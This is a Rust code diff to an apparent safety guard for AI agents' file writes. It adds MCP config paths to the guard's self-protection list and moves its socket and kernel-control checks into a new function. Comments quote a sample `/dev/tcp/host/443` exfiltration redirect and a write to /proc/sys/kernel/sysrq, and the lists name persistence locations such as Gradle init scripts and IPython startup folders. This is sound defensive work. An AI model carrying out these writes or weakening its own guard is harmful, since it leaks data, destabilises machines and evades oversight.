@@ -29,6 +29,15 @@ pub(crate) fn sensitive_path(path: &str) -> Option<(Effect, &'static str)> {
         "claude_desktop_config",
         ".mcp.json",
         "settings.local.json",
+        // Other agents' MCP server lists: each entry is a command the agent starts (the
+        // twenty-second sets): VS Code's, Roo's, Cline's, Windsurf's, Kiro's, Amazon Q's.
+        ".vscode/mcp.json",
+        ".roo/mcp.json",
+        "mcp_settings.json",
+        "mcp_config.json",
+        ".kiro/settings/mcp.json",
+        ".amazonq/mcp.json",
+        ".config/goose/config.yaml",
     ];
     if GUARD.iter().any(|g| p.contains(g)) {
         return Some((Admin, "the guard's own configuration (self-weakening)"));
@@ -111,16 +120,10 @@ pub(crate) fn write_risk(path: &str, append: bool) -> Option<(Effect, &'static s
     if path.trim_end_matches('/').is_empty() && path.starts_with('/') {
         return Some((Admin, "the root of the file system"));
     }
+    if let Some(hit) = socket_or_control(path) {
+        return Some(hit);
+    }
     let p = path.to_ascii_lowercase();
-    // Bash opens a socket for these (`cat f > /dev/tcp/host/443`): the data leaves.
-    if p.starts_with("/dev/tcp/") || p.starts_with("/dev/udp/") {
-        return Some((Admin, "a network socket (the data leaves the machine)"));
-    }
-    // The kernel's controls: `/proc/sysrq-trigger` crashes or reboots the machine, and
-    // `/proc/sys`, `/sys` change how the kernel, devices and the network behave.
-    if (p.starts_with("/proc/") && !p.starts_with("/proc/self/fd/")) || p.starts_with("/sys/") {
-        return Some((Admin, "a kernel or device control"));
-    }
     if let Some(hit) = runs_later(&p) {
         return Some(hit);
     }
@@ -157,6 +160,24 @@ pub(crate) fn write_risk(path: &str, append: bool) -> Option<(Effect, &'static s
             Destructive,
             "a data file or data location (its content is lost)",
         ));
+    }
+    None
+}
+
+/// A path whose write leaves the machine or changes the kernel: a network socket
+/// (`/dev/tcp/host/443`, which Bash opens) or the kernel's controls (`/proc/sysrq-trigger`,
+/// `/proc/sys`, `/sys`). Also for a file tool's write (the twenty-second sets: `write_file
+/// {"path": "/proc/sys/kernel/sysrq"}` and `Write` to `/dev/tcp/…` were plain writes).
+pub(crate) fn socket_or_control(path: &str) -> Option<(Effect, &'static str)> {
+    let p = path.trim().to_ascii_lowercase();
+    // Bash opens a socket for these (`cat f > /dev/tcp/host/443`): the data leaves.
+    if p.starts_with("/dev/tcp/") || p.starts_with("/dev/udp/") {
+        return Some((Admin, "a network socket (the data leaves the machine)"));
+    }
+    // The kernel's controls: `/proc/sysrq-trigger` crashes or reboots the machine, and
+    // `/proc/sys`, `/sys` change how the kernel, devices and the network behave.
+    if (p.starts_with("/proc/") && !p.starts_with("/proc/self/fd/")) || p.starts_with("/sys/") {
+        return Some((Admin, "a kernel or device control"));
     }
     None
 }
@@ -222,9 +243,14 @@ pub(crate) fn runs_later(path: &str) -> Option<(Effect, &'static str)> {
         // macOS's login and boot agents.
         "library/launchagents/",
         "library/launchdaemons/",
+        // Gradle's init scripts run at each build (the twenty-second sets).
+        ".gradle/init.d/",
+        ".gradle/init.gradle",
     ];
     let python_hook = matches!(file, "sitecustomize.py" | "usercustomize.py")
-        || (file.ends_with(".pth") && p.contains("-packages"));
+        || (file.ends_with(".pth") && p.contains("-packages"))
+        // IPython runs its profiles' start-up scripts at each start (the twenty-second sets).
+        || (p.contains(".ipython/") && p.contains("/startup/"));
     if STARTUP.contains(&file) || STORES.iter().any(|d| p.contains(d)) || python_hook {
         return Some((
             Admin,
